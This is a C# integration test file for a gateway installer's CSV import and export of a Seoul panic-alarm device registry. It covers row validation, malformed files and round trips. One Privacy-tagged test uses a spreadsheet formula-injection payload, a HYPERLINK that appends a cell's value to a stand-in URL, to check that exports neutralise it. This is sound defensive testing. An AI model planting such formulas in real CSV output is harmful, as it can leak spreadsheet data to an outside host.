using Anshimi.Gateway.Storage;
using Anshimi.Installer;

namespace Anshimi.Gateway.Tests.Provisioning;

/// <summary>CSV export and import through the installer, on the seeded fleet (active from the start).</summary>
[Trait("Category", "Integration")]
public sealed class RegistryCsvImportTests : IAsyncLifetime
{
    private readonly TestDevice _home = new(0x0000A1B2, 1);
    private readonly TestDevice _shop = new(0x0000C3D4, 101, "shop-panic");
    private readonly TestDevice _third = new(0x0000E5F6, 50);
    private ProvisioningRig _rig = null!;

    public async Task InitializeAsync() => _rig = await ProvisioningRig.StartAsync(_home, _shop, _third);

    public async Task DisposeAsync() => await _rig.DisposeAsync();

    [Fact]
    public async Task Bad_rows_change_nothing_and_each_problem_names_its_row_and_column()
    {
        string before = await ExportAsync();
        string csv = string.Join("\r\n",
            "device_id,site_kind,address,latitude,longitude,site_ref,district_code",
            "0000A1B2,home,서울특별시 중구 세종대로 110,37.5665,126.9780,R-NEW001,11140",
            "0000C3D4,shop,부산광역시 중앙대로 1,35.1796,129.0756,01012345678,",
            "0000FFFF,home,서울특별시 종로구 1,37.5730,126.9794,R-X0001,",
            "0000E5F6,tent,\"서울특별시 강남구, 테헤란로 1\",37.4979,nan,R-X0002,11680",
            "0000A1B2,home,서울특별시 중구 세종대로 110,37.5665,126.9780,R-DUP001,11110");
        InstallerRun run = await ImportAsync(csv);

        Assert.Equal(ExitCodes.BadInput, run.Exit);
        Assert.Contains("row 3, column latitude: the point 35.1796, 129.0756 is not inside a Seoul district (outside_seoul)", run.Err, StringComparison.Ordinal);
        Assert.Contains("row 3, column site_ref:", run.Err, StringComparison.Ordinal);
        Assert.Contains("row 4, column device_id:", run.Err, StringComparison.Ordinal);
        Assert.Contains("row 5, column site_kind:", run.Err, StringComparison.Ordinal);
        Assert.Contains("row 5, column longitude:", run.Err, StringComparison.Ordinal);
        Assert.Contains("row 6, column device_id:", run.Err, StringComparison.Ordinal);
        Assert.DoesNotContain("row 2,", run.Err, StringComparison.Ordinal);

        // The good first row was not applied either.
        Assert.Equal(before, await ExportAsync());
        Assert.True(_rig.Get<DeviceRegistry>().TryGet(_home.Id, out DeviceEntry home));
        Assert.Equal(_home.Site.Address, home.Site.Address);
    }

    [Fact]
    public async Task A_broken_file_is_refused_as_a_whole_with_the_line_of_the_problem()
    {
        string before = await ExportAsync();
        InstallerRun unclosed = await ImportAsync("device_id,site_kind,address,latitude,longitude,site_ref\r\n0000A1B2,home,\"never closed,37.5,126.9,R-1234\r\n");
        Assert.Equal(ExitCodes.BadInput, unclosed.Exit);
        Assert.Contains("row 2, column : a quoted field is never closed", unclosed.Err, StringComparison.Ordinal);

        InstallerRun missing = await ImportAsync("device_id,address\r\n0000A1B2,x\r\n");
        Assert.Equal(ExitCodes.BadInput, missing.Exit);
        Assert.Contains("row 1, column site_kind: the header has no site_kind column", missing.Err, StringComparison.Ordinal);

        InstallerRun ragged = await ImportAsync("device_id,site_kind,address,latitude,longitude,site_ref\r\n0000A1B2,home\r\n");
        Assert.Contains("row 2, column : has 2 fields, the header 6", ragged.Err, StringComparison.Ordinal);

        // A good row whose address spans two lines comes first: the bad row is still named by its own line.
        const string spanning = "device_id,site_kind,address,latitude,longitude,site_ref\r\n0000A1B2,home,\"서울특별시 중구\r\n세종대로 110\",37.5665,126.9780,R-NEW001\r\n";
        InstallerRun stray = await ImportAsync(spanning + "0000C3D4,shop,12\" 간판,37.5665,126.9780,R-NEW002\r\n");
        Assert.Equal(ExitCodes.BadInput, stray.Exit);
        Assert.Contains("row 4, column : a quote inside an unquoted field", stray.Err, StringComparison.Ordinal);

        InstallerRun shortRow = await ImportAsync(spanning + "0000C3D4,shop\r\n");
        Assert.Equal(ExitCodes.BadInput, shortRow.Exit);
        Assert.Contains("row 4, column : has 2 fields, the header 6", shortRow.Err, StringComparison.Ordinal);
        Assert.DoesNotContain("row 2,", shortRow.Err, StringComparison.Ordinal);
        Assert.Equal(before, await ExportAsync());
    }

    [Fact]
    public async Task An_edited_export_imports_and_the_sites_follow_in_the_registry_and_alarms()
    {
        string exported = await ExportAsync();
        Assert.StartsWith("device_id,state,profile,firmware_version,site_kind,address,latitude,longitude,district_code,neighbourhood_code,site_ref", exported, StringComparison.Ordinal);
        Assert.Contains("0000A1B2,active,home-panic", exported, StringComparison.Ordinal);
        Assert.DoesNotContain(Convert.ToHexString(_home.Key), exported, StringComparison.OrdinalIgnoreCase);

        string[] lines = exported.TrimEnd().Split("\r\n");
        // Only the rows given change; the others keep their sites.
        string edited = string.Join("\r\n", lines[0], "0000A1B2,active,home-panic,,shop,\"서울특별시 강남구 테헤란로 152, 1층\",37.5006,127.0364,11680,,S-GANGNAM1,,,,,0");
        InstallerRun run = await ImportAsync(edited);
        Assert.True(run.Exit == ExitCodes.Ok, run.ToString());

        IReadOnlyList<DeviceRow> rows = await _rig.Get<DeviceLifecycle>().ListAsync(CancellationToken.None);
        DeviceRow home = rows.Single(r => r.DeviceId == "0000A1B2");
        Assert.Equal("shop", home.Site.Kind);
        Assert.Equal("서울특별시 강남구 테헤란로 152, 1층", home.Site.Address);
        Assert.Equal("11680", home.DistrictCode);
        Assert.Equal("S-GANGNAM1", home.SiteReference);
        Assert.True(_rig.Get<DeviceRegistry>().TryGet(_home.Id, out DeviceEntry entry));
        Assert.Equal("11680", entry.DistrictCode);
        Assert.Equal(37.5006, entry.Site.Latitude);
        Assert.Equal(_shop.Site.Address, rows.Single(r => r.DeviceId == "0000C3D4").Site.Address);
    }

    [Fact]
    [Trait("Category", "Privacy")]
    public async Task A_formula_in_an_imported_address_leaves_the_gateway_as_text_and_survives_a_round_trip()
    {
        const string formula = "=HYPERLINK(\"http://x/?\"&A2,\"x\")";
        string header = (await ExportAsync()).Split("\r\n")[0];
        InstallerRun imported = await ImportAsync(string.Join("\r\n", header,
            "0000A1B2,active,home-panic,,home,\"" + formula.Replace("\"", "\"\"", StringComparison.Ordinal) + "\",37.5665,126.9780,11140,,R-FORMULA1,,,,,0"));
        Assert.True(imported.Exit == ExitCodes.Ok, imported.ToString());

        string exported = await ExportAsync();
        Assert.Contains(",\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"x\"\")\",", exported, StringComparison.Ordinal);

        // The device's line as exported imports back without gaining the ' (the seeded others have no site reference to import).
        string[] lines = exported.TrimEnd().Split("\r\n");
        string file = Path.Combine(_rig.Directory, "round-trip.csv");
        await File.WriteAllTextAsync(file, lines[0] + "\r\n" + lines.Single(l => l.StartsWith("0000A1B2,", StringComparison.Ordinal)) + "\r\n");
        InstallerRun again = await _rig.InstallerAsync("import", "--csv", file, "--lang", "en");
        Assert.True(again.Exit == ExitCodes.Ok, again.ToString());
        Assert.Equal(formula, (await _rig.Get<DeviceLifecycle>().ListAsync(CancellationToken.None)).Single(r => r.DeviceId == "0000A1B2").Site.Address);
    }

    private async Task<string> ExportAsync()
    {
        InstallerRun export = await _rig.InstallerAsync("export", "--csv");
        Assert.True(export.Exit == ExitCodes.Ok, export.ToString());
        return export.Out;
    }

    private async Task<InstallerRun> ImportAsync(string csv)
    {
        string file = Path.Combine(_rig.Directory, Guid.NewGuid().ToString("N") + ".csv");
        await File.WriteAllTextAsync(file, csv);
        return await _rig.InstallerAsync("import", "--csv", file, "--lang", "en");
    }
}
